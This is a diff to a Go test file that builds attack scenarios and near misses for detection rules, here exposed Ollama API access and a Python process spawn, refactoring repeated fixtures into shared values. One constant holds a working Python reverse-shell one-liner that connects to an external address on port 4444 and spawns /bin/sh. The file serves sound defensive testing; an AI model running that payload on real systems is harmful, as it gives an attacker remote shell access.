@@ -34,6 +34,7 @@ func (s EQLScenario) Cases() []Case {
 	return out
 }
 
+// miss is the near miss c, loosened by relax (see NearMiss).
 func miss(c Case, relax ...string) NearMiss { return NearMiss{c, relax} }
 
 // Name is the rule file's name without its rules__ prefix.
@@ -179,10 +180,10 @@ var EQLScenarios = []EQLScenario{
 	// An event query on network events.
 	{
 		Rule:   "rules__cross-platform__initial_access_ollama_api_external_access",
-		Attack: one("Ollama's API accepts an Internet client", linuxDB, Proc{ID: "ollama", Parent: "init", Exe: "/usr/local/bin/ollama", Args: []string{"/usr/local/bin/ollama", "serve"}, User: "ollama"}, Ev{Kind: "connection_accepted", Remote: external, Port: 11434}),
+		Attack: one("Ollama's API accepts an Internet client", linuxDB, ollamaServe, Ev{Kind: "connection_accepted", Remote: external, Port: 11434}),
 		NearMisses: []NearMiss{
-			miss(one("a client on the private network", linuxDB, Proc{ID: "ollama", Parent: "init", Exe: "/usr/local/bin/ollama", Args: []string{"/usr/local/bin/ollama", "serve"}, User: "ollama"}, Ev{Kind: "connection_accepted", Remote: "192.168.1.50", Port: 11434}), `"192.168.0.0/16",`, ""),
-			miss(one("another port", linuxDB, Proc{ID: "ollama", Parent: "init", Exe: "/usr/local/bin/ollama", Args: []string{"/usr/local/bin/ollama", "serve"}, User: "ollama"}, Ev{Kind: "connection_accepted", Remote: external, Port: 8080}), "destination.port == 11434", "destination.port in (11434, 8080)"),
+			miss(one("a client on the private network", linuxDB, ollamaServe, Ev{Kind: "connection_accepted", Remote: "192.168.1.50", Port: 11434}), `"192.168.0.0/16",`, ""),
+			miss(one("another port", linuxDB, ollamaServe, Ev{Kind: "connection_accepted", Remote: external, Port: 8080}), "destination.port == 11434", "destination.port in (11434, 8080)"),
 		},
 	},
 
@@ -347,10 +348,13 @@ var (
 		{ID: "sh", Parent: "sshd", Exe: "/bin/sh", Args: []string{"sh", "-c", "id; uname -a"}},
 	}
 	pySpawn = []Proc{
-		run("py", "/usr/bin/python3.10", "python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('"+external+"',4444));pty.spawn('/bin/sh')"),
-		{ID: "fork", Parent: "py", Exe: "/usr/bin/python3.10", Args: []string{"python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('" + external + "',4444));pty.spawn('/bin/sh')"}},
+		run("py", "/usr/bin/python3.10", "python3", "-c", pySpawnCode),
+		{ID: "fork", Parent: "py", Exe: "/usr/bin/python3.10", Args: []string{"python3", "-c", pySpawnCode}},
 	}
+	ollamaServe = Proc{ID: "ollama", Parent: "init", Exe: "/usr/local/bin/ollama", Args: []string{"/usr/local/bin/ollama", "serve"}, User: "ollama"}
 )
+
+const pySpawnCode = "import socket,os,pty;s=socket.socket();s.connect(('" + external + "',4444));pty.spawn('/bin/sh')"
 
 func gitClone(flag string) Proc {
 	return run("git", "/usr/bin/git", "git", "clone", flag, "https://github.com/example/project.git")
